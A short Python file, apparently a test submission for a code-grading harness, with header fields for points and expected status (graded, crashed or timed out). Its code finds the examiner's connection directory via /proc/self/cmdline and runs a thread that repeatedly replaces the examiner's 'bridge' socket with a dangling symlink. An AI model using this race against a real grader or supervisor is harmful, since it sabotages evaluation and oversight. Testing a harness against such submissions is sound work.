# Exchanges the examiner's socket in the shared directory for a link while the examiner makes it.
# base: right
# points: 25
# status: graded|crashed|timed out
# %% Dropout
import os
import re
import threading
import time

found = re.search(r"(/[^\0\s\"]+)/connection\.json", open("/proc/self/cmdline").read())


def exchange(path):
    while True:
        try:
            os.unlink(path)
            os.symlink("/nonexistent/file", path)
        except OSError:
            pass
        time.sleep(0.0001)


if found:
    threading.Thread(target=exchange, args=(f"{found[1]}/bridge",), daemon=True).start()
